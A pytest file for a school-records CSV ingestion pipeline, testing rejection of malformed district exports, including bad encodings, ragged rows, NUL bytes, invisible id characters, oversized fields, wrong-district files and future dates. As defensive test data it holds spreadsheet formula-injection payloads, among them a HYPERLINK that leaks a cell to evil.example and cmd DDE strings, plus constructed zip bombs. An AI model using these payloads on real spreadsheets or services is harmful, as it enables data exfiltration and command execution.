"""Bad input a real district sends (issue 5, point 5): each is refused or flagged with a message naming the
file, the line and the column; nothing is lost (the delivered file stays in the drop folder, the ledger
records it); the rest of the night still loads.

The rules are decisions of the spec (``decisions:`` in ``ingestion/spec/sis_export_v1.yml``). Ragged rows,
unbalanced quotes and header spelling are tested one by one at the validator's level in test_validate.py;
here they are tested through ``ingest_export`` (ledger rows) in one night.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import re
import shutil
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from sis_sync import PROJECT_ROOT
from sis_sync.ingestion import exports, workdirs
from sis_sync.ingestion.exports import DistrictSchools, find_export, today_in
from sis_sync.ingestion.load import ingest_export
from sis_sync.ingestion.spec import load_spec
from sis_sync.ingestion.validate import MAX_FIELD_BYTES, KnownSchools, ValidationError, validate_file

FIXTURE = Path(__file__).parent / "fixtures" / "export_small"
SPEC = load_spec()
DISTRICT = "d042"
NIGHT1 = dt.date(2025, 10, 14)
NIGHT2 = dt.date(2025, 10, 15)


@pytest.fixture
def drop(tmp_path) -> Path:
    return tmp_path / "drop"


@pytest.fixture
def ingest(fresh_db, drop, tmp_path):
    def run(night: dt.date):
        return ingest_export(fresh_db, drop, DISTRICT, night, tmp_path / "pipelines")

    return run


def fixture_bytes(name: str) -> bytes:
    return (FIXTURE / name).read_bytes()


def write_night(drop: Path, night: dt.date, files: dict[str, bytes] | None = None, *, fixture: bool = True) -> Path:
    folder = drop / DISTRICT / night.isoformat()
    folder.mkdir(parents=True, exist_ok=True)
    if fixture:
        for path in FIXTURE.glob("*.csv"):
            shutil.copy(path, folder / path.name)
    for name, data in (files or {}).items():
        (folder / name).write_bytes(data)
    return folder


def query(conn, sql: str, *args):
    with conn.cursor() as cur:
        cur.execute(sql, args or None)
        return cur.fetchall()


def ledger(conn, night: dt.date | None = None) -> dict[str, dict]:
    """The latest ledger row per file (of one night)."""
    with conn.cursor() as cur:
        cur.execute("select * from raw_sis.load_ledger where %s::date is null or export_date = %s"
                    " order by ledger_id", (night, night))
        names = [d[0] for d in cur.description]
        return {row[names.index("file_name")]: dict(zip(names, row, strict=True)) for row in cur.fetchall()}


def raw_count(conn, table: str) -> int:
    return query(conn, f"select count(*) from raw_sis.{table}")[0][0]


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def assert_kept(folder: Path, name: str, data: bytes, row: dict) -> None:
    """Nothing lost: the delivered file is still in the drop folder, and the ledger names its bytes."""
    assert (folder / name).read_bytes() == data
    assert row["sha256"] == sha(data)


def replace_line(data: bytes, line: int, new: bytes) -> bytes:
    lines = data.split(b"\n")
    lines[line - 1] = new
    return b"\n".join(lines)


# --- encoding ----------------------------------------------------------------------------------------------


def test_windows_1252_bytes_are_rejected_with_line_offset_column_and_a_hint(ingest, drop, db_conn):
    schools = fixture_bytes("schools.csv") + "0104,José Martí Elementary,KG,05,\n".encode("cp1252")
    folder = write_night(drop, NIGHT1, {"schools.csv": schools})
    result = ingest(NIGHT1)

    assert (result.loaded, result.rejected) == (8, 1)
    row = ledger(db_conn)["schools.csv"]
    offset = schools.index(b"\xe9")
    assert row["status"] == "rejected" and row["load_id"] is None
    assert row["message"] == (
        f"schools.csv line 5: the file is not UTF-8: byte 0xe9 at byte offset {offset} in column school_name"
        ' is not valid UTF-8; it looks like Windows-1252 or Latin-1 (where 0xe9 is "é"): the export must be'
        " UTF-8")
    assert_kept(folder, "schools.csv", schools, row)
    assert raw_count(db_conn, "schools") == 0 and raw_count(db_conn, "students") == 3


def test_utf16_file_is_named_as_such():
    data = "school_id,school_name\n0101,Lincoln\n".encode("utf-16")
    with pytest.raises(ValidationError, match="UTF-16 byte-order mark") as info:
        validate_file(SPEC.file("schools"), lambda: io.BytesIO(data))
    assert info.value.line == 1


# --- structure: ragged rows, quotes, header spelling ---------------------------------------------------------


def test_ragged_rows_and_unbalanced_quotes_reject_only_their_files(ingest, drop, db_conn):
    students = replace_line(fixture_bytes("students.csv"), 3,
                            b"123,9000012346,James,,O'Neil,,2013-01-15,M,07,0102,2026,Active,2025-08-20,,English,x")
    staff = replace_line(fixture_bytes("staff.csv"), 2, b"T0042,Dana,Whitfield")
    sections = fixture_bytes("sections.csv").replace(b"\n", b'\n"', 2).replace(b'\n"', b"\n", 1)
    folder = write_night(drop, NIGHT1, {"students.csv": students, "staff.csv": staff, "sections.csv": sections})
    result = ingest(NIGHT1)

    assert (result.loaded, result.rejected) == (6, 3)
    rows = ledger(db_conn)
    assert rows["students.csv"]["message"] == "students.csv line 3: the row has 16 fields, the header has 15"
    assert rows["staff.csv"]["message"] == "staff.csv line 2: the row has 3 fields, the header has 7"
    assert rows["sections.csv"]["message"].startswith("sections.csv line 3: ")
    assert "unbalanced quote" in rows["sections.csv"]["message"]
    for name, data in (("students.csv", students), ("staff.csv", staff), ("sections.csv", sections)):
        assert rows[name]["status"] == "rejected"
        assert_kept(folder, name, data, rows[name])
    assert raw_count(db_conn, "students") == raw_count(db_conn, "staff") == raw_count(db_conn, "sections") == 0
    assert {n for n, r in rows.items() if r["status"] == "loaded"} == {
        "schools.csv", "courses.csv", "enrollments.csv", "contacts.csv", "attendance.csv", "discipline.csv"}


def test_headers_in_other_case_and_with_spaces_load(ingest, drop, db_conn):
    students = fixture_bytes("students.csv")
    header, rest = students.split(b"\n", 1)
    shouting = b",".join(b"  " + name.upper() + b" " for name in header.split(b","))
    write_night(drop, NIGHT1, {"students.csv": shouting + b"\n" + rest})
    assert ingest(NIGHT1).loaded == 9
    assert query(db_conn, "select student_id, last_name from raw_sis.students order by _line_number limit 1") == [
        ("000123", "Garcia")]


# --- a 1 MB field --------------------------------------------------------------------------------------------


def test_a_megabyte_field_is_rejected_with_line_and_column(ingest, drop, db_conn):
    huge = b"A" * (1 << 20)
    students = replace_line(fixture_bytes("students.csv"), 3,
                            b"123,9000012346,James,,O'Neil" + huge + b",,2013-01-15,M,07,0102,2026,Active,,,")
    folder = write_night(drop, NIGHT1, {"students.csv": students})
    result = ingest(NIGHT1)

    assert (result.loaded, result.rejected) == (8, 1)
    row = ledger(db_conn)["students.csv"]
    assert row["message"] == ("students.csv line 3, column last_name: the value is 1,048,582 bytes long; the"
                              " limit is 65,536 bytes (64 KiB) per field")
    assert_kept(folder, "students.csv", students, row)
    assert raw_count(db_conn, "students") == 0


def test_a_nul_byte_rejects_its_file_by_line_and_column_and_the_night_goes_on(ingest, drop, db_conn):
    students = replace_line(fixture_bytes("students.csv"), 3,
                            b"123,9000012346,James,,O'Ne\x00il,,2013-01-15,M,07,0102,2026,Active,,,")
    folder = write_night(drop, NIGHT1, {"students.csv": students})
    result = ingest(NIGHT1)

    assert (result.loaded, result.rejected) == (8, 1)
    row = ledger(db_conn)["students.csv"]
    assert row["message"] == ("students.csv line 3, column last_name: the value contains a NUL character (byte 0),"
                              " which no text value may hold")
    assert_kept(folder, "students.csv", students, row)
    assert raw_count(db_conn, "students") == 0
    assert raw_count(db_conn, "contacts") > 0


def test_a_nul_byte_is_found_in_any_column_and_its_value_never_shown():
    schools = SPEC.file("schools")
    for line, column, record in ((2, "school_id", b"01\x0001,Lincoln,x"), (2, "school_name", b"0101,\x00,x")):
        rows = [b"0101,Lincoln,x", b"0102,Adams,y"]
        rows[line - 2] = record
        data = b"school_id,school_name,Notes\n" + b"\n".join(rows) + b"\n"
        with pytest.raises(ValidationError) as info:
            validate_file(schools, lambda data=data: io.BytesIO(data))
        assert (info.value.line, info.value.column) == (line, column)
        assert "secret" not in str(info.value) and "Lincoln" not in str(info.value)


def test_a_nul_byte_in_an_extra_column_is_ignored_like_the_column(ingest, drop, db_conn):
    """A column the spec does not know is never stored, so whatever it holds (a NUL byte too) loses nothing."""
    schools = SPEC.file("schools")
    data = b"school_id,school_name,Notes\n0101,Lincoln,x\n0102,Adams,sec\x00ret\n"
    assert validate_file(schools, lambda: io.BytesIO(data)).row_count == 2
    schools_csv = fixture_bytes("schools.csv").rstrip(b"\n").split(b"\n")
    schools_csv = [schools_csv[0] + b",Notes"] + [line + b",a\x00b" for line in schools_csv[1:]]
    write_night(drop, NIGHT1, {"schools.csv": b"\n".join(schools_csv) + b"\n"})
    result = ingest(NIGHT1)
    assert result.rejected == 0 and ledger(db_conn)["schools.csv"]["status"] == "loaded"
    assert raw_count(db_conn, "schools") == len(schools_csv) - 1


def test_an_id_with_an_invisible_character_rejects_its_file(ingest, drop, db_conn):
    """`123` and `123` followed by a zero-width space look the same and would be two students."""
    students = replace_line(fixture_bytes("students.csv"), 3,
                            "123\u200b,9000012346,James,,O'Neil,,2013-01-15,M,07,0102,2026,Active,,,".encode())
    write_night(drop, NIGHT1, {"students.csv": students})
    result = ingest(NIGHT1)
    assert (result.loaded, result.rejected) == (8, 1)
    assert ledger(db_conn)["students.csv"]["message"] == (
        "students.csv line 3, column student_id: the id contains an invisible character (U+200B); ids must be"
        " visible characters only")
    assert raw_count(db_conn, "students") == 0


@pytest.mark.parametrize("char", ["\u00ad", "\u200b", "\u200d", "\u200e", "\u202e", "\u2060", "\ufeff"])
def test_invisible_characters_are_refused_in_ids_only(char):
    schools = SPEC.file("schools")
    with pytest.raises(ValidationError) as info:
        validate_file(schools, lambda: io.BytesIO(f"school_id,school_name\n0101,Lincoln\n01{char}02,Adams\n".encode()))
    assert (info.value.line, info.value.column) == (3, "school_id")
    assert f"U+{ord(char):04X}" in str(info.value)
    named = f"school_id,school_name\n0101,Lin{char}coln\n".encode()  # a name may hold one
    assert validate_file(schools, lambda: io.BytesIO(named)).row_count == 1


def test_cr_only_line_endings_are_named_as_such():
    schools = SPEC.file("schools")
    for data in (b"school_id,school_name\r0101,Lincoln\r0102,Adams\r", b"school_id,school_name\r0101,Lincoln"):
        with pytest.raises(ValidationError) as info:
            validate_file(schools, lambda data=data: io.BytesIO(data))
        assert "carriage return alone" in str(info.value) and "no data rows" not in str(info.value)
    assert validate_file(schools, lambda: io.BytesIO(b"school_id,school_name\r\n0101,Lincoln\r\n")).row_count == 1


def test_field_limit_is_exact_and_covers_extra_columns():
    schools = SPEC.file("schools")

    def check(value: bytes):
        data = b"school_id,school_name,Notes\n0101,Lincoln,x\n0102,Adams," + value + b"\n"
        return validate_file(schools, lambda: io.BytesIO(data))

    assert check(b"n" * MAX_FIELD_BYTES).row_count == 2
    with pytest.raises(ValidationError) as info:
        check(b"n" * (MAX_FIELD_BYTES + 1))
    assert (info.value.line, info.value.column) == (3, "Notes")


def test_a_huge_field_among_other_problems_never_crashes():
    # A ragged row after a 1 MB field used to crash the error path (Python's csv field limit).
    schools = SPEC.file("schools")
    data = b"school_id,school_name\n0101," + b"x" * (1 << 20) + b"\n0102,Adams,extra\n"
    with pytest.raises(ValidationError) as info:
        validate_file(schools, lambda: io.BytesIO(data))
    assert info.value.line == 2 and "longer than 65,536 bytes" in str(info.value)
    # A record larger than the reader's block: named by its line too.
    with pytest.raises(ValidationError) as info:
        validate_file(schools, lambda: io.BytesIO(data), block_size=1 << 16)
    assert info.value.line == 2


MEMORY_SCRIPT = """
import io, os, resource, sys
from sis_sync.ingestion.spec import load_spec
from sis_sync.ingestion.validate import ValidationError, validate_file

class Stream(io.RawIOBase):
    # header, one record whose name is N bytes long, generated as it is read (nothing on disk or in memory)
    def __init__(self, n):
        self.parts = [b"school_id,school_name\\n0101,", None, b"\\n"]
        self.left = n
    def readable(self):
        return True
    def readinto(self, buffer):
        while self.parts:
            if self.parts[0] is None:
                if self.left:
                    k = min(len(buffer), self.left)
                    buffer[:k] = b"x" * k
                    self.left -= k
                    return k
                self.parts.pop(0)
                continue
            part = self.parts.pop(0)
            buffer[:len(part)] = part
            return len(part)
        return 0

n = int(sys.argv[1])
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    validate_file(load_spec().file("schools"), lambda: io.BufferedReader(Stream(n)))
except ValidationError as e:
    print(e)
print((resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024, flush=True)
# This stream is Python code that pyarrow's read-ahead thread may still be calling when the interpreter
# finalizes (open_csv raised, so there is no reader to close): leave without finalizing. A real file's
# read-ahead ends by itself at the end of the file.
os._exit(0)
"""


def test_memory_stays_bounded_whatever_the_field_length():
    """A 256 MiB field (never on disk): rejected by its line, with the memory the reader's block needs."""
    out = subprocess.run([sys.executable, "-c", MEMORY_SCRIPT, str(256 << 20)], cwd=PROJECT_ROOT,
                         capture_output=True, text=True, timeout=120, check=True).stdout.splitlines()
    assert out[0] == "schools.csv line 2: a field of this record is longer than 65,536 bytes (64 KiB), the limit" \
                     " per field"
    assert int(out[1]) < 128  # MiB of peak memory above what importing pyarrow took


# --- spreadsheet formulas ------------------------------------------------------------------------------------


FORMULAS = {
    "first_name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "middle_name": "-2+3",
    "last_name": "+cmd|' /C calc'!A0",
    "preferred_name": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def with_values(data: bytes, record: int, values: dict[str, str]) -> bytes:
    """A CSV file with some values of its ``record``-th data record replaced (written back by csv)."""
    rows = list(csv.reader(io.StringIO(data.decode(), newline="")))
    for column, value in values.items():
        rows[record][rows[0].index(column)] = value
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def formula_students() -> bytes:
    """The fixture's students, with formula payloads in the names of the student on line 2."""
    return with_values(fixture_bytes("students.csv"), 1, FORMULAS)


def test_formula_values_are_flagged_not_numbers_or_phone_numbers():
    attendance = (b"student_id,school_id,attendance_date,attendance_code,minutes_absent,school_year\n"
                  b"1,0101,2025-10-14,=1+1,-5,2026\n2,0101,2025-10-15,UA,+30,2026\n")
    stats = validate_file(SPEC.file("attendance"), lambda: io.BytesIO(attendance))
    assert (stats.formula_count, stats.formula_cells) == (1, ((2, "attendance_code"),))  # not -5, +30

    contacts = fixture_bytes("contacts.csv")  # phones like +15553821045 and (555) 382-1044
    assert validate_file(SPEC.file("contacts"), lambda: io.BytesIO(contacts)).notes is None

    stats = validate_file(SPEC.file("students"), lambda: io.BytesIO(formula_students()))
    assert stats.formula_count == 4
    assert stats.notes == (
        "4 values start with a spreadsheet formula character (= + - @), stored as text and never evaluated:"
        " line 2, column first_name; line 2, column middle_name; line 2, column last_name;"
        " line 2, column preferred_name")


def test_many_formula_values_are_counted_and_the_first_ten_listed():
    rows = "".join(f"{i:04d},=School {i}\n" for i in range(25))
    stats = validate_file(SPEC.file("schools"), lambda: io.BytesIO(f"school_id,school_name\n{rows}".encode()),
                          block_size=256)
    assert stats.formula_count == 25
    assert stats.formula_cells == tuple((line, "school_name") for line in range(2, 12))
    assert stats.notes.endswith("line 11, column school_name; and 15 more")


def test_formula_values_load_as_text_and_the_ledger_flags_them(ingest, drop, db_conn):
    write_night(drop, NIGHT1, {"students.csv": formula_students(),
                               "schools.csv": b"school_id,school_name,Principal\n0101,Lincoln,Ms. Ray\n"
                                              b"0102,Adams,\n0103,Jefferson,=1\n"})
    result = ingest(NIGHT1)
    assert (result.loaded, result.rejected) == (9, 0)
    rows = ledger(db_conn)
    assert rows["students.csv"]["status"] == "loaded"
    assert rows["students.csv"]["message"].startswith(
        "4 values start with a spreadsheet formula character (= + - @), stored as text and never evaluated:"
        " line 2, column first_name;")
    assert rows["schools.csv"]["message"] == "ignored extra columns: Principal"  # not stored: not flagged
    assert rows["contacts.csv"]["message"] is None
    stored = query(db_conn, "select first_name, middle_name, last_name, preferred_name from raw_sis.students"
                            " where student_id = '000123'")
    assert stored == [('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "-2+3", "+cmd|' /C calc'!A0",
                       "@SUM(1+1)*cmd|' /C calc'!A0")]


def test_formula_values_reach_the_marts_unchanged(fresh_db, db_conn, tmp_path):
    """Staging and marts keep the text as delivered: nothing evaluates, strips or "fixes" it."""
    from sis_sync.nightly import dbt_build, ingest_districts
    from sis_sync.sample import write_export

    night = dt.date(2026, 3, 16)
    drop = tmp_path / "drop"
    folder = write_export(drop, district_id="sample", export_date=night, students=30)
    (folder / "manifest.csv").unlink()
    students = (folder / "students.csv").read_bytes()
    student_id = students.split(b"\n")[1].split(b",")[0].decode()
    (folder / "students.csv").write_bytes(with_values(students, 1, {
        "first_name": FORMULAS["first_name"], "last_name": FORMULAS["last_name"], "preferred_name": ""}))

    try:
        nights = ingest_districts(fresh_db, None, drop, night, ())
        assert nights[0].ok and nights[0].loaded == len(list(folder.glob("*.csv")))
        assert dbt_build(night).ok
    finally:
        shutil.rmtree(workdirs.default_pipelines_dir(fresh_db), ignore_errors=True)
    first, last = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0"
    assert query(db_conn, "select first_name, last_name, display_first_name from marts.dim_students"
                          " where student_id = %s", student_id) == [(first, last, first)]
    assert query(db_conn, "select first_name, last_name from marts.student_overview where student_id = %s",
                 student_id) == [(first, last)]


# --- another district's file ---------------------------------------------------------------------------------


OTHER_SCHOOLS = b"school_id,school_name,low_grade,high_grade,phone\n9101,Riverside Elementary,KG,05,\n" \
                b"9102,Riverside Middle,06,08,\n"


def other_district(data: bytes) -> bytes:
    return data.replace(b",0101,", b",9101,").replace(b",0102,", b",9102,").replace(b",0103,", b",9102,")


def test_a_file_of_another_district_is_rejected_by_its_schools(ingest, drop, db_conn):
    write_night(drop, NIGHT1)
    assert ingest(NIGHT1).loaded == 9

    # Night 2: another district's schools and staff in this district's folder; this district's students.
    staff = other_district(fixture_bytes("staff.csv"))
    students = fixture_bytes("students.csv").replace(b"Malu", b"Lulu")
    folder = write_night(drop, NIGHT2, {"schools.csv": OTHER_SCHOOLS, "staff.csv": staff,
                                        "students.csv": students}, fixture=False)
    result = ingest(NIGHT2)

    assert (result.loaded, result.rejected) == (1, 2)
    rows = ledger(db_conn, NIGHT2)
    assert rows["schools.csv"]["message"] == (
        'schools.csv line 2, column school_id: school "9101" is not a school of district d042, and neither is'
        " the file's other school id: is this another district's file? (district d042 has schools 0101, 0102,"
        " 0103, from its earlier schools.csv loads)")
    assert rows["staff.csv"]["message"].startswith(
        'staff.csv line 2, column school_id: school "9101" is not a school of district d042')
    assert rows["students.csv"]["status"] == "loaded"
    assert_kept(folder, "schools.csv", OTHER_SCHOOLS, rows["schools.csv"])
    assert_kept(folder, "staff.csv", staff, rows["staff.csv"])


def test_new_schools_and_a_stray_school_id_are_not_another_district(ingest, drop, db_conn):
    write_night(drop, NIGHT1)
    ingest(NIGHT1)
    # Tonight's schools.csv adds a school, and every staff member moved there: known through tonight's file.
    schools = fixture_bytes("schools.csv") + b"0104,Roosevelt Elementary,KG,05,\n"
    staff = fixture_bytes("staff.csv").replace(b",0101,", b",0104,").replace(b",0102,", b",0104,") \
        .replace(b",0103,", b",0104,")
    # One student at a school the district does not list: a data problem for dbt's tests, not another district.
    students = fixture_bytes("students.csv").replace(b",0102,", b",0999,", 1)
    write_night(drop, NIGHT2, {"schools.csv": schools, "staff.csv": staff, "students.csv": students},
                fixture=False)
    result = ingest(NIGHT2)
    assert (result.loaded, result.rejected) == (3, 0)


def test_district_schools_rule():
    schools = DistrictSchools("d1")
    assert schools.for_file("schools.csv") is None and schools.for_file("staff.csv") is None  # first night

    tonight = validate_file(SPEC.file("schools"), lambda: io.BytesIO(OTHER_SCHOOLS))
    schools.learn("schools.csv", tonight)
    assert schools.for_file("schools.csv") is None  # nothing earlier to compare tonight's schools with
    assert schools.for_file("staff.csv").school_ids == {"9101", "9102"}

    schools = DistrictSchools("d1", frozenset({"0101"}))
    assert schools.for_file("schools.csv") == KnownSchools("d1", frozenset({"0101"}),
                                                           "its earlier schools.csv loads")
    schools.learn("schools.csv", tonight)
    assert schools.for_file("courses.csv").school_ids == {"0101", "9101", "9102"}
    with pytest.raises(ValidationError, match="another district"):
        validate_file(SPEC.file("schools"), lambda: io.BytesIO(OTHER_SCHOOLS),
                      schools=schools.for_file("schools.csv"))


# --- an export dated in the future -------------------------------------------------------------------------


def test_an_export_dated_in_the_future_is_refused(ingest, drop, db_conn):
    future = dt.date.today() + dt.timedelta(days=3)
    folder = write_night(drop, future)
    result = ingest(future)

    assert result.incomplete.startswith(f"refused: the export is dated {future}, a day that has not begun yet")
    assert result.rows == [] and result.loaded == 0
    assert ledger(db_conn) == {} and raw_count(db_conn, "students") == 0
    assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in FIXTURE.glob("*.csv"))


def test_future_is_judged_in_the_districts_time_zone(drop):
    write_night(drop, NIGHT2)
    # 03:00 UTC on the 15th is still the evening of the 14th in Chicago.
    now = dt.datetime(2025, 10, 15, 3, 0, tzinfo=dt.timezone.utc)
    assert today_in("America/Chicago", now) == NIGHT1
    assert today_in(None, now) == NIGHT2  # without a time zone: the latest date anywhere (UTC+14)
    refused = find_export(drop, DISTRICT, NIGHT2, today=today_in("America/Chicago", now))
    assert refused.refused.startswith("the export is dated 2025-10-15, a day that has not begun yet"
                                      " (today is 2025-10-14)") and refused.files == {}
    assert find_export(drop, DISTRICT, NIGHT2, today=NIGHT2).complete
    refused = find_export(drop, DISTRICT, NIGHT2, time_zone="Pacific/Kiritimati", today=NIGHT1)
    assert "(today is 2025-10-14 in Pacific/Kiritimati)" in refused.refused


# --- zip bombs -----------------------------------------------------------------------------------------------


def zip_path(drop: Path, night: dt.date) -> Path:
    path = drop / DISTRICT / f"{night.isoformat()}.zip"
    path.parent.mkdir(parents=True, exist_ok=True)
    return path


def test_a_zip_bomb_is_refused_before_extraction(ingest, drop, db_conn, monkeypatch):
    archive = zip_path(drop, NIGHT1)
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for path in FIXTURE.glob("*.csv"):
            if path.name != "attendance.csv":
                zf.write(path, path.name)
        with zf.open("attendance.csv", "w", force_zip64=True) as member:  # 64 MiB of zeros, ~64 KiB zipped
            for _ in range(64):
                member.write(bytes(1 << 20))
    assert archive.stat().st_size < 1 << 20

    def never(*args, **kwargs):
        raise AssertionError("a member of a refused zip was read")

    monkeypatch.setattr(exports, "_sha256", never)
    result = ingest(NIGHT1)
    assert re.fullmatch(rf"refused: {archive.name}: attendance.csv would expand from [0-9.]+ KiB to 64.0 MiB,"
                        " more than 200 times its compressed size: a zip bomb[?] Nothing of it is read",
                        result.incomplete), result.incomplete
    assert result.rows == [] and ledger(db_conn) == {} and raw_count(db_conn, "schools") == 0
    assert archive.is_file()  # kept, for the operator to look at


def test_a_zip_expanding_beyond_the_total_limit_is_refused(ingest, drop, db_conn, monkeypatch):
    archive = zip_path(drop, NIGHT1)
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for path in FIXTURE.glob("*.csv"):
            zf.write(path, path.name)
    total = sum(p.stat().st_size for p in FIXTURE.glob("*.csv"))
    monkeypatch.setattr(exports, "MAX_ZIP_BYTES", total - 1)
    result = ingest(NIGHT1)
    assert result.incomplete.startswith(f"refused: {archive.name} would expand to ")
    assert "a zip bomb? Nothing of it is read (deliver an export that large as a folder)" in result.incomplete
    assert ledger(db_conn) == {}
    monkeypatch.setattr(exports, "MAX_ZIP_BYTES", total)
    assert ingest(NIGHT1).loaded == 9


def test_a_zip_that_lies_about_a_size_is_not_read_beyond_it(ingest, drop, db_conn):
    """zipfile stops at the size the zip declares and then fails the CRC: never more bytes than declared."""
    archive = zip_path(drop, NIGHT1)
    with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for path in FIXTURE.glob("*.csv"):
            zf.write(path, path.name)
    data = bytearray(archive.read_bytes())
    # Make the central directory say schools.csv expands to 10 bytes (uncompressed size: offset 24).
    at = data.index(b"PK\x01\x02")
    while data[at + 46: at + 46 + struct.unpack_from("<H", data, at + 28)[0]] != b"schools.csv":
        at = data.index(b"PK\x01\x02", at + 4)
    struct.pack_into("<I", data, at + 24, 10)
    archive.write_bytes(bytes(data))

    result = ingest(NIGHT1)
    assert "schools.csv cannot be read (Bad CRC-32 for file 'schools.csv')" in result.incomplete
    assert ledger(db_conn) == {}
